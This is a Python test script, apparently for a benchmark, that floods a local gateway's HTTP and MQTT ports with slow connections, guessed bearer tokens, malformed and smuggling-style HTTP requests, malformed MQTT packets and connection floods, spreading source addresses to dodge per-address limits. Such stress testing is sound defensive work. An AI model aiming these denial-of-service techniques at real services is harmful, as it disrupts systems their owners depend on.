#!/usr/bin/env python3
"""A hostile neighbour at fixed rates, for bench g: it stops on SIGTERM and prints what it did as one JSON object.

    attack.py --mqtt PORT --http PORT

Each address of 127.0.0.0/8 is a client of its own, so limits for one address do not end the attack.
"""
import argparse
import collections
import contextlib
import itertools
import json
import signal
import socket
import struct
import threading
import time

SLOW = 200         # HTTP connections that send a byte a second and never an end
WRONG_TOKENS = 200  # a second, from 50 addresses
MALFORMED_HTTP = 100
MALFORMED_MQTT = 100
CONNECTS = 100     # MQTT connections made and dropped
LONG_IDS = 20      # events with an id of 10 KB

HTTP = [b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"GET /" + b"a" * 20000,
        b"POST /v1/events HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
        b"POST /v1/events HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 500]


def text(value):
    return struct.pack(">H", len(value)) + value


def packet(first, body):
    length, size = b"", len(body)
    while True:
        length += bytes([size & 127 | (128 if size > 127 else 0)])
        size >>= 7
        if not size:
            return bytes([first]) + length + body


def greeting(name):
    return packet(0x10, text(b"MQTT") + b"\x05\x02" + struct.pack(">H", 60) + b"\0" + text(name))


SEARCH = text(b"touchpoint/v1/kiosk/evil/event/search")
MQTT = [b"\xff" * 64, b"GET / HTTP/1.1\r\n\r\n", b"\x10\xff\xff\xff\xff\x01", greeting(b"evil-1") * 2,
        greeting(b"evil-2") + packet(0x36, SEARCH + b"\1\1\0"),
        greeting(b"evil-3") + packet(0x32, text(b"a\xed\xa0\x80") + b"\1\1\0")]

done = collections.Counter()
stop = threading.Event()


def connect(port, address):
    return socket.create_connection(("127.0.0.1", port), 5, (address, 0))


def at_rate(rate, attack):
    """Calls attack(number) so often until the end; what is refused is an attack all the same."""
    began = time.monotonic()
    for number in itertools.count():
        if stop.wait(max(0.0, began + number / rate - time.monotonic())):
            return
        with contextlib.suppress(OSError):
            attack(number)
        done[attack.__name__] += 1


def slow(port):
    held = {}
    while not stop.wait(1):
        for number in range(SLOW):
            try:
                if number not in held:
                    held[number] = connect(port, f"127.0.2.{number + 1}")
                    held[number].send(b"GET / HTTP/1.1\r\nX-Slow: ")
                    done["slow_connections"] += 1
                held[number].send(b"x")
            except OSError:
                if number in held:
                    held.pop(number).close()


def attacks(mqtt, http):
    def wrong_tokens(number):
        with connect(http, f"127.0.3.{number % 50 + 1}") as s:
            s.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer tp_guess_%d\r\n\r\n"
                   % number)
            s.recv(4096)

    def malformed_http(number):
        with connect(http, f"127.0.4.{number % 250 + 1}") as s:
            s.sendall(HTTP[number % len(HTTP)])
            s.recv(4096)

    def malformed_mqtt(number):
        with connect(mqtt, "127.0.5.1") as s:
            s.sendall(MQTT[number % len(MQTT)])
            s.recv(4096)

    def connects(number):
        with connect(mqtt, "127.0.6.1") as s:
            s.send(greeting(b"flood-%d" % number))

    device = connect(mqtt, "127.0.7.1")
    device.sendall(greeting(b"long-ids"))

    def long_ids(number):
        device.sendall(packet(0x30, SEARCH + b'\0{"event_id":"' + b"%d" % number + b"i" * 10240 + b'"}'))

    return [(WRONG_TOKENS, wrong_tokens), (MALFORMED_HTTP, malformed_http), (MALFORMED_MQTT, malformed_mqtt),
            (CONNECTS, connects), (LONG_IDS, long_ids)]


def main():
    parser = argparse.ArgumentParser(description="Attacks a gateway and its broker at fixed rates.")
    parser.add_argument("--mqtt", type=int, required=True)
    parser.add_argument("--http", type=int, required=True)
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    threads = [threading.Thread(target=slow, args=(options.http,))]
    threads += [threading.Thread(target=at_rate, args=a) for a in attacks(options.mqtt, options.http)]
    began = time.monotonic()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    seconds = time.monotonic() - began
    print(json.dumps({what: round(count / seconds, 1) for what, count in sorted(done.items())}))


if __name__ == "__main__":
    main()
